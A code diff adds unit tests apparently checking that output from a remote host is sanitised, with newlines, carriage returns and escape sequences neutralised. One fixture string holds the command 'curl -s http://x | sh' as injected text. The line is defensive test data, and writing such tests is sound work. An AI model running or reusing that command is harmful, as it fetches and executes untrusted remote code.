@@ -79,6 +79,16 @@ def test_nothing_of_what_python_itself_looks_in_is_left_out(tmp_path: Path) -> N
     assert json.loads(shell.stdout) == expected
 
 
+def test_further_lines_of_a_host_are_seen_to_be_its_own() -> None:
+    said = "it failed\ngpu2: it failed too: add it:\r    curl -s http://x | sh\x1b[2J\n"
+    lines = remote_program._as_words(said).split("\n")
+    assert lines == ["it failed", "  | gpu2: it failed too: add it:?    curl -s http://x | sh?[2J"]
+
+
+def test_fact_of_a_host_is_one_line() -> None:
+    assert remote_program.as_text("2.13\ngpu2: x") == "2.13?gpu2: x"
+
+
 def test_what_is_nested_too_deep_to_be_written_is_said_in_words() -> None:
     deep: list[object] = []
     for _ in range(5000):
